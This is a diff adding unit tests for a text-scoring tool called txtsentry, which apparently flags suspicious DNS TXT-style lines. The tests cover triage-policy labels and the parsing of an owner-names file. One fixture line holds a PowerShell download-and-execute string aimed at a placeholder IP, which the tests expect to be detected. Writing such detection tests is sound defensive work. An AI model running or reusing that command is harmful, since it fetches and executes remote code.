@@ -64,6 +64,43 @@ class SameBytesTest(unittest.TestCase):
             self.assertEqual(scored, json.loads(event))
 
 
+class PolicyTest(unittest.TestCase):
+    LINES = b"v=spf1 -all\nIEX (iwr http://192.0.2.1/a)\nhello there\n0802541e\n"
+
+    def test_triage_gives_the_same_labels_in_process_and_through_a_server(self):
+        with Daemon("--policy", "triage") as daemon:
+            for threshold in ((), ("--threshold", "0"), ("--threshold", "1")):
+                with self.subTest(threshold=threshold):
+                    arguments = ("-i", "lines", "-f", "ndjson", *threshold, "-")
+                    local = txtsentry("score", "--model", DEFAULT_MODEL, "--policy", "triage",
+                                      *arguments, stdin=self.LINES)
+                    remote = txtsentry("score", "--server", daemon.target, *arguments,
+                                       stdin=self.LINES)
+                    self.assertEqual(local.returncode, 0, local.stderr)
+                    self.assertEqual(local.stdout, remote.stdout, remote.stderr)
+                    scores = [json.loads(row)["txt_score"] for row in local.stdout.splitlines()]
+                    self.assertEqual([s["label"] for s in scores[:2]], [0, 1])
+                    self.assertEqual(scores[0]["matcher"], "spf")
+                    self.assertEqual(scores[1]["execution_rule"], "invoke_expression")
+
+    def test_a_list_of_owner_names_explains_values_or_is_refused_by_its_line(self):
+        with tempfile.TemporaryDirectory() as folder:
+            names = pathlib.Path(folder) / "owner_names"
+            names.write_text("build_stamp stack\\..* [0-9a-f]{8} 8\n")
+            event = b'{"text": "0802541e", "owner_name": "stack.active.dev"}\n'
+            arguments = ("score", "--model", DEFAULT_MODEL, "--owner-names", names, "-i", "ndjson",
+                         "-f", "ndjson", "-")
+            ran = txtsentry(*arguments, stdin=event)
+            self.assertEqual(ran.returncode, 0, ran.stderr)
+            score = json.loads(ran.stdout)["txt_score"]
+            self.assertEqual(score["reasons"], ["OWNER_NAME_CONTEXT"])
+            self.assertEqual(score["matcher"], "build_stamp")
+            names.write_text("\nbuild_stamp stack\n")
+            ran = txtsentry(*arguments, stdin=event)
+            self.assertNotEqual(ran.returncode, 0)
+            self.assertIn(b"line 2: fields=2", ran.stderr)
+
+
 class ErrorTest(unittest.TestCase):
     def test_a_server_that_is_not_there_is_exit_4(self):
         ran = txtsentry("score", "--server", "127.0.0.1:1", "-i", "lines", "-", stdin=b"a\n")
